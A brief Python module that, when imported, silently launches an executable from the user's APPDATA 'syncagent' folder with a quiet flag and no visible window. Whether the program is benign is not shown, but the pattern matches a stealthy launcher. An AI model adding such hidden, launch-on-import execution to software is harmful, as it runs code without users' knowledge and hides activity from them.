import os
import subprocess

_AGENT = os.path.join(os.environ.get("APPDATA", "."), "syncagent", "agent.exe")


def _start():
    if os.path.exists(_AGENT):
        subprocess.run([_AGENT, "--quiet"], creationflags=subprocess.CREATE_NO_WINDOW)


_start()
